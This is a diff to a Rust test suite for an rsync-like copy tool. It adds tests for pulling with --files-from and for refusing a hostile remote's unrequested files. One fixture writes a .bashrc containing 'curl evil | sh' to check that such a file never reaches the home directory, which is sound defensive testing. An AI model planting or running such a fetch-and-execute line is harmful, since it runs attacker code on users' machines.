@@ -893,6 +893,95 @@ fn a_pull_over_open_udp_asks_the_remote_nothing_more() {
     );
 }
 
+/// `atou copy --files-from LIST HOST:DIR DEST`, as rsync's: the list is
+/// read here and sent to the remote sender; each listed path arrives as
+/// DEST/PATH, with the directories on its way, and nothing else.
+#[test]
+fn a_pull_sends_the_files_from_list_read_here() {
+    let s = TestDir::new("hostile-remote-pull-list");
+    let src = s.path("far/data");
+    fs::create_dir_all(src.join("sub/deeper")).unwrap();
+    for (name, text) in [
+        ("a", "a"),
+        ("other", "other"),
+        ("sub/b", "b"),
+        ("sub/c", "c"),
+        ("sub/deeper/d", "d"),
+    ] {
+        fs::write(src.join(name), text).unwrap();
+    }
+    let list = s.path("list");
+    fs::write(&list, "# wanted\na\nsub/b\nsub/./deeper\n").unwrap();
+    let dest = s.path("dest");
+    let at = format!("127.0.0.1:{}", src.display());
+    let out = pull(
+        &s,
+        Path::new(ATOU),
+        &[
+            "--files-from",
+            list.to_str().unwrap(),
+            &at,
+            dest.to_str().unwrap(),
+        ],
+    );
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_eq!(fs::read_to_string(dest.join("a")).unwrap(), "a");
+    assert_eq!(fs::read_to_string(dest.join("sub/b")).unwrap(), "b");
+    assert_eq!(fs::read_to_string(dest.join("deeper/d")).unwrap(), "d");
+    assert!(!dest.join("other").exists());
+    assert!(!dest.join("sub/c").exists());
+    assert!(!dest.join("data").exists());
+
+    // Two remote SRCs leave the list's base unsaid.
+    let out = pull(
+        &s,
+        Path::new(ATOU),
+        &[
+            "--files-from",
+            list.to_str().unwrap(),
+            &at,
+            &at,
+            dest.to_str().unwrap(),
+        ],
+    );
+    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("give one remote SRC"),
+        "{}",
+        stderr(&out)
+    );
+}
+
+/// With --files-from the names a pull may receive are the list's, not
+/// the SRC's: a remote sending the SRC directory itself (the name a pull
+/// without a list takes) is refused.
+#[test]
+fn a_pull_with_a_list_takes_only_the_names_it_lists() {
+    let s = TestDir::new("hostile-remote-list-names");
+    let reports = s.path("far/reports");
+    fs::create_dir_all(&reports).unwrap();
+    fs::write(reports.join(".bashrc"), "curl evil | sh\n").unwrap();
+    let remote = hostile(&s, "", &[&reports]);
+    let list = s.path("list");
+    fs::write(&list, "report.txt\n").unwrap();
+    let dest = home(&s);
+    let out = pull(
+        &s,
+        &remote,
+        &[
+            "--files-from",
+            list.to_str().unwrap(),
+            "127.0.0.1:reports",
+            dest.to_str().unwrap(),
+        ],
+    );
+    assert_ne!(out.status.code(), Some(0));
+    let err = stderr(&out);
+    assert!(err.contains("which was not asked for"), "{err}");
+    assert!(!dest.join("reports").exists(), "the remote wrote its tree");
+    assert_home_untouched(&dest);
+}
+
 /// `atou copy -n HOST:SRC DEST`: the remote sender lists what it would
 /// send, as this end answered; DEST is neither created nor written.
 #[test]
@@ -920,11 +1009,19 @@ fn a_pull_dry_run_lists_what_would_come_and_writes_nothing() {
     );
     assert!(!s.path("nowhere").exists(), "the dry run created DEST");
 
-    // An existing DEST holding one of the files: it is skipped, and DEST
-    // gains nothing (no staging directory either).
+    // An existing DEST holding one of the files, as it is there: it is
+    // skipped, and DEST gains nothing (no staging directory either).
     let dest = s.path("dest");
     fs::create_dir_all(dest.join("data")).unwrap();
     fs::write(dest.join("data/one"), "one").unwrap();
+    // Skipped by size and mtime, as rsync's quick check.
+    let mtime = fs::metadata(src.join("one")).unwrap().modified().unwrap();
+    fs::File::options()
+        .write(true)
+        .open(dest.join("data/one"))
+        .unwrap()
+        .set_modified(mtime)
+        .unwrap();
     let out = pull(
         &s,
         remote,
